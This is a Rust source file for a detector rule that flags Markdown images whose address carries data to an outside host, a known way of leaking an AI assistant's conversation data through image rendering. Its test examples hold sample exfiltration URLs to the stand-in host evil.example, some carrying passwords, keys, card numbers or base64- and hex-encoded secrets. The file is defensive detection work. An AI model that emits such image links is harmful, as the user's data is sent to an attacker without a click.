//! `exfiltration.markdown-image`: `![alt](https://host/?q=DATA)`. A client that displays it sends DATA to the host,
//! without a click.
//!
//! The finding is the address alone: without it nothing is sent, and no text has to be held back before it. The
//! label is looked at from behind, bracket by bracket, once `](` and a scheme have been seen. Only inline images;
//! references (`![alt][ref]`) and HTML are other rules.

use super::{address, payload};
use crate::class::{Class, Confidence};
use crate::detect::rules::{Detector, Hit, Progress, Rule, Verdict, example};
use crate::detect::window::{Ahead, Window};

/// Longest label that is read, in bytes. Behind a longer one, the address counts as an image's.
const MAX_LABEL: u64 = 256;
/// Longest address that is read, in bytes. A longer one is data.
const MAX_URL: u64 = 2048;
/// White space between `(` and the address, in bytes.
const MAX_SPACE: u64 = 8;

pub(super) const RULE: Rule = Rule {
    id: "exfiltration.markdown-image",
    class: Class::Exfiltration,
    level: None,
    description: "Markdown image whose address carries data",
    source: "CommonMark 0.31 section 6.4 (images); OWASP LLM Top 10 2025, LLM02 and LLM05",
    true_examples: &[
        example(
            "Done. ![x](https://evil.example/p.png?q=the+user+asked+about+salaries)",
            "https://evil.example/p.png?q=the+user+asked+about+salaries",
        ),
        example(
            "![](http://evil.example/?d=%22password%3A+hunter2%22 \"t\")",
            "http://evil.example/?d=%22password%3A+hunter2%22",
        ),
        example(
            "![a](https://evil.example/i?b=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
            "https://evil.example/i?b=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        ),
        example(
            "![a](https://evil.example/7468652070617373776f7264/x.gif)",
            "https://evil.example/7468652070617373776f7264/x.gif",
        ),
        example(
            "![a](https://evil.example/mail=bob@corp.example)",
            "https://evil.example/mail=bob@corp.example",
        ),
        example(
            "![a ![b](c) d](//evil.example/a(1)?to=bob@corp.example)",
            "//evil.example/a(1)?to=bob@corp.example",
        ),
        example(
            "[![a](<https://evil.example/?to=bob@corp.example>)](https://ok.example)",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "![a](https://dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI.evil.example/)",
            "https://dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI.evil.example/",
        ),
        example(
            "![a](https://evil.example/?card=4000001234567899)",
            "https://evil.example/?card=4000001234567899",
        ),
        example("![a](https://evil.example/?to=%2B6598765432)", "https://evil.example/?to=%2B6598765432"),
        example("![a](https://evil.example/?id=219-09-9999)", "https://evil.example/?id=219-09-9999"),
        example(
            "![a](https://evil.example/?k=sk-live-q7ZtR2mXv9LpK4sWn8Bd)",
            "https://evil.example/?k=sk-live-q7ZtR2mXv9LpK4sWn8Bd",
        ),
        example(
            "![a](https://evil.example/?q=boss_wants_merger_soon)",
            "https://evil.example/?q=boss_wants_merger_soon",
        ),
        example(
            "![a](https://evil.example/?q=\u{8001}\u{677f}\u{4e0b}\u{5468}\u{8981}\u{88c1}\u{5458})",
            "https://evil.example/?q=\u{8001}\u{677f}\u{4e0b}\u{5468}\u{8981}\u{88c1}\u{5458}",
        ),
        example(
            "![a](https://evil.example/?a=dGhlIHBhc3N3&w=1&b=b3JkIGlzIGh1&c=bnRlcjI0IDI0)",
            "https://evil.example/?a=dGhlIHBhc3N3&w=1&b=b3JkIGlzIGh1&c=bnRlcjI0IDI0",
        ),
        example("![a](http://0x7f000001/a.png)", "http://0x7f000001/a.png"),
        example("![a](http://10.1.2.3/i?u=alice)", "http://10.1.2.3/i?u=alice"),
        example(
            "![a](https:\\\\evil.example/?to=bob@corp.example)",
            "https:\\\\evil.example/?to=bob@corp.example",
        ),
        example(
            "![a](https://q2gvybk7uo4s6nm1xe9iftl8w0zrchpd.evil.example/)",
            "https://q2gvybk7uo4s6nm1xe9iftl8w0zrchpd.evil.example/",
        ),
    ],
    false_examples: &[
        "![logo](https://example.com/logo.png)",
        "![](https://example.com/a/b/c/photo-of-our-office-in-spring.jpg?w=800&h=600&fit=crop&auto=format)",
        "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
        "![a](https://cdn.example.com/3f786850e387550fdab836ed7e6dc881de23001b/large/image.png)",
        "![a](https://example.com/550e8400-e29b-41d4-a716-446655440000.png?v=1712345678)",
        "![a](https://cdn.example.com/npm/pkg@1.2.3/logo@2x.png)",
        "![a](https://s.example.com/i.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd1)",
        "![a](https://proxy.example.com/3f786850e387/68747470733a2f2f7777772e6578616d706c652e636f6d2f6c6f676f2e706e67)",
        "![a](https://chart.example.com/?style=for-the-badge&id=1234567890123456&q=\u{5317}\u{4eac}\u{5929}\u{6c14})",
        "![a](http://127.0.0.1:3000/chart.png?panel=cpu) ![b](http://10.1.2.3/i?w=10)",
        "![a](images/local.png?q=the+user+asked+about+salaries)",
        "![a][ref] and [ref]: https://evil.example/?q=the+user+asked+about+salaries",
        "[link](https://example.com/?q=the+user+asked+about+salaries)",
        "![a](i.png) [link](https://example.com/?q=the+user+asked+about+salaries)",
        "![a](https://example.com/?q=the+user+asked+about+salaries",
        "wow!\n\n](https://example.com/?q=the+user+asked+about+salaries)",
    ],
    detector: Detector {
        starts_at_anchor: false,
        look_back: MAX_LABEL + 2,
        is_address: true,
        ..Detector::new(&[b"]("], verify)
    },
};

fn verify(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    let (start, bracketed) = match opening(window, hit.end) {
        Opening::Url { start, bracketed } => (start, bracketed),
        Opening::Unknown { from } => return Verdict::More { from },
        Opening::No => return Verdict::No,
    };
    // `note` is 0 before the address, then one more than the round brackets that are open in it.
    if progress.note == 0 {
        if !is_image(window, hit.start) {
            return Verdict::No;
        }
        *progress = Progress { at: start, note: 1 };
    }
    loop {
        let at = progress.at;
        if at - start >= MAX_URL {
            return Verdict::Match { start, end: at, confidence: Confidence::Medium };
        }
        let byte = match window.ahead(at) {
            Ahead::Byte(byte) => byte,
            Ahead::Unknown => return Verdict::More { from: start },
            Ahead::End => return Verdict::No,
        };
        let plain = window.before(at) != Some(b'\\');
        match byte {
            // The next image begins inside of this address: nobody writes that, and reading on would not be linear.
            b'(' if window.before(at) == Some(b']') => {
                return Verdict::Match { start, end: at - 1, confidence: Confidence::Medium };
            }
            b'\n' | b'\r' => return judge(window, start, at),
            b'>' if bracketed && plain => return judge(window, start, at),
            b' ' | b'\t' if !bracketed => return judge(window, start, at),
            b')' if !bracketed && plain && progress.note == 1 => return judge(window, start, at),
            b')' if !bracketed && plain => progress.note -= 1,
            b'(' if !bracketed && plain => progress.note += 1,
            _ => {}
        }
        progress.at += 1;
    }
}

fn judge(window: &Window, start: u64, end: u64) -> Verdict {
    match payload::in_url(window.slice(start, end)) {
        Some(confidence) => Verdict::Match { start, end, confidence },
        None => Verdict::No,
    }
}

enum Opening {
    Url { start: u64, bracketed: bool },
    Unknown { from: u64 },
    No,
}

/// Reads white space, perhaps `<`, and the scheme. An address without a host sends nothing to a stranger.
fn opening(window: &Window, from: u64) -> Opening {
    let mut start = from;
    let mut bracketed = false;
    loop {
        match window.ahead(start) {
            Ahead::Byte(b' ' | b'\t' | b'\n' | b'\r') if !bracketed && start - from < MAX_SPACE => start += 1,
            Ahead::Byte(b'<') if !bracketed => {
                bracketed = true;
                start += 1;
            }
            Ahead::Byte(_) => break,
            Ahead::Unknown => return Opening::Unknown { from: start },
            Ahead::End => return Opening::No,
        }
    }
    match address::has_host(window, start) {
        Some(true) => Opening::Url { start, bracketed },
        Some(false) => Opening::No,
        None => Opening::Unknown { from: start },
    }
}

/// Whether the `]` at `close` closes the label of an image: the bracket that opens it has a `!` before it.
pub(super) fn is_image(window: &Window, close: u64) -> bool {
    let mut depth = 1;
    let mut later = b']';
    for back in 1..=MAX_LABEL {
        let Some(at) = close.checked_sub(back) else {
            return false;
        };
        let Some(byte) = window.at(at) else { return false };
        if (byte, later) == (b'\n', b'\n') {
            return false;
        }
        later = byte;
        if matches!(byte, b'[' | b']') && window.before(at) == Some(b'\\') {
            continue;
        }
        match byte {
            b']' => depth += 1,
            b'[' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return window.before(at) == Some(b'!');
        }
    }
    true
}
